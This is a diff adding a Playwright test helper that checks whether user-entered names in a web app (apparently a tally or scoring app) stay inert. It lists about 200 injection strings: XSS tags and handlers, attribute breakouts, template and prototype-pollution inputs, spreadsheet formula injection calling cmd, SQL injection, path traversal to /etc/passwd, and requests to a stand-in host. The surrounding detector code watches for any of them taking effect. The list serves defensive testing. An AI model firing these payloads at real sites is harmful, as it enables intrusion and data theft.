@@ -1,0 +1,186 @@
+// Texts that would run, fetch or draw something, were they ever taken for anything but text: each marks the window,
+// asks, or calls. None is longer than a name may be.
+import type { Page } from 'playwright-core';
+
+const MARKUP = [
+  '<script>ran=1</script>',
+  '<script src=//ran.example/></script>',
+  '<img src=x onerror=ran=1>',
+  '<svg onload=ran=1>',
+  '<svg><script>ran=1</script></svg>',
+  '<body onload=ran=1>',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<iframe src=javascript:parent.ran=1></iframe>',
+  '<object data=javascript:ran=1></object>',
+  '<embed src=//ran.example/>',
+  '<link rel=stylesheet href=//ran.example/>',
+  '<base href=//ran.example/>',
+  '<meta http-equiv=refresh content="0;url=//ran.example/">',
+  '<style>*{background:url(//ran.example/)}</style>',
+  '<video><source onerror=ran=1></video>',
+  '<details open ontoggle=ran=1>x</details>',
+  '<input autofocus onfocus=ran=1>',
+  '<a href=javascript:ran=1>x</a>',
+  '<form action=javascript:ran=1><button>x</button></form>',
+  '<math><mi xlink:href="javascript:ran=1">x</mi></math>',
+  '<template><img src=x onerror=ran=1></template>',
+  '<tally-app></tally-app>',
+  '<tally-form></tally-form>',
+  '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
+  '<svg><use href="data:image/svg+xml,<svg onload=ran=1>"/></svg>',
+  '<plaintext>',
+  '<!--><img src=x onerror=ran=1>-->',
+  '<isindex type=image src=x onerror=ran=1>',
+  '<marquee onstart=ran=1>x</marquee>',
+  '<dialog open>x</dialog>',
+  '<textarea autofocus onfocus=ran=1>',
+  '<img src=//ran.example/x.png>',
+  '<audio src onerror=ran=1>',
+  '<x onclick=ran=1 style=position:fixed;inset:0>x</x>',
+  '<div popover id=x onbeforetoggle=ran=1>x</div>',
+  '<slot name=x></slot>',
+];
+
+const BREAKING_OUT = ['">', "'>", '`>', '</textarea>', '</title>', '</script>', '-->', ']]>'];
+
+const SCRIPTS = [
+  'javascript:ran=1',
+  'JaVaScRiPt:ran=1',
+  'data:text/html,<script>ran=1</script>',
+  'vbscript:ran=1',
+  'blob:null/ran',
+  '" onmouseover="ran=1',
+  "' onfocus='ran=1' autofocus='",
+  "';ran=1;//",
+  '";ran=1;//',
+  '`;ran=1;//',
+  '${ran=1}',
+  '{{ran=1}}',
+  '<%=ran=1%>',
+  '#{ran=1}',
+  '${{constructor.constructor("ran=1")()}}',
+  '{{constructor.constructor("ran=1")()}}',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  '__proto__[ran]',
+  'constructor.prototype.ran',
+  '{"__proto__":{"ran":1}}',
+  '[object Object]',
+  'valueOf',
+  'then',
+  'eval("ran=1")',
+  'alert(1)',
+  'import("//ran.example/x.js")',
+  'fetch("//ran.example/")',
+  'document.cookie',
+  'location="//ran.example/"',
+  'window.name',
+  'self.ran=1',
+  'top.ran=1',
+  '=cmd|"/C calc"!A0',
+  '=HYPERLINK("http://ran.example/","x")',
+  '@SUM(1+1)*cmd|"/C calc"!A0',
+  '+1+cmd',
+  '-2+3+cmd',
+  "'; DROP TABLE events; --",
+  '" OR 1=1 --',
+  'expression(ran=1)',
+  'url(//ran.example/)',
+  '}*{background:url(//ran.example/)}',
+  '; background: url(//ran.example/)',
+  '@import "//ran.example/x.css"',
+  'var(--paper)',
+  '</style><script>ran=1</script>',
+  '../../../../etc/passwd',
+  '//ran.example/',
+  'http://ran.example/',
+  'file:///etc/passwd',
+  '%3Cscript%3Eran=1%3C/script%3E',
+  '&lt;script&gt;ran=1&lt;/script&gt;',
+  '&#60;img src=x onerror=ran=1&#62;',
+  '\\u003cscript\\u003eran=1\\u003c/script\\u003e',
+  '\\x3cscript\\x3eran=1',
+  '+ADw-script+AD4-ran=1+ADw-/script+AD4-',
+  '＜script＞ran=1＜/script＞',
+  '‹script›ran=1‹/script›',
+  '\u202e<script>ran=1</script>',
+  '\u200b<img src=x onerror=ran=1>',
+  '<scr\u00adipt>ran=1',
+  '<<script>ran=1//<</script>',
+  '<ScRiPt>ran=1</sCrIpT>',
+  '<img/src=x/onerror=ran=1>',
+  '<img src=`x`onerror=ran=1>',
+  '<svg/onload=ran=1>',
+  '<a href=&#106;avascript:ran=1>x</a>',
+  'lit$1$',
+  '<?lit$1$?>',
+  '<!--?lit$1$-->',
+  '$lit$',
+  '{"values":[1],"strings":["<img src=x onerror=ran=1>"],"_$litType$":1}',
+  '%00',
+  '%0d%0aSet-Cookie:ran=1',
+  'undefined',
+  'null',
+  'NaN',
+  '[]',
+  '{}',
+  'tallysheet-height?',
+  'event/new',
+  '#events',
+  '?',
+  '&',
+  '/',
+];
+
+/** At least 200, all different. */
+export const PAYLOADS = [
+  ...new Set([...MARKUP, ...SCRIPTS, ...BREAKING_OUT.flatMap((out) => MARKUP.slice(0, 14).map((one) => out + one))]),
+].filter(({ length }) => length <= 90);
+
+/** As many texts that nobody could mistake for anything. */
+export const HARMLESS = PAYLOADS.map((_, at) => `Player ${at}`);
+
+/** What stands on the page apart from its texts: every element with the names of its attributes, in shadow roots, too;
+ *  but for what comes some time later by itself. */
+export function bonesOf(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const bones = (root: Document | ShadowRoot): string[] =>
+      [...root.querySelectorAll('*')]
+        .filter((one) => !one.closest('link, tally-foot, .below'))
+        .flatMap((one) => [
+          `${one.tagName} ${one.getAttributeNames().sort()}`,
+          ...(one.shadowRoot ? bones(one.shadowRoot) : []),
+        ]);
+    return bones(document);
+  });
+}
+
+/** What must not have happened by the end: gives back what did. */
+export function watch(page: Page): () => Promise<string[]> {
+  const happened: string[] = [];
+  page.on('dialog', (dialog) => (happened.push(`dialog: ${dialog.message()}`), void dialog.dismiss()));
+  page.on('popup', (popup) => happened.push(`popup: ${popup.url()}`));
+  page.on(
+    'request',
+    (request) =>
+      /ran\.example$|^$/.test(new URL(request.url()).hostname) &&
+      !request.url().startsWith('blob:') &&
+      happened.push(`request: ${request.url()}`),
+  );
+  page.on('pageerror', (error) => happened.push(`error: ${error.message}`));
+  page.on(
+    'console',
+    (message) => ['error', 'warning'].includes(message.type()) && happened.push(`console: ${message.text()}`),
+  );
+  return async () => {
+    const marks = await Promise.all(
+      page
+        .frames()
+        .map((frame) => frame.evaluate(() => ['ran', 'polluted'].filter((name) => name in globalThis || name in {}))),
+    );
+    return [...happened, ...marks.flat()];
+  };
+}
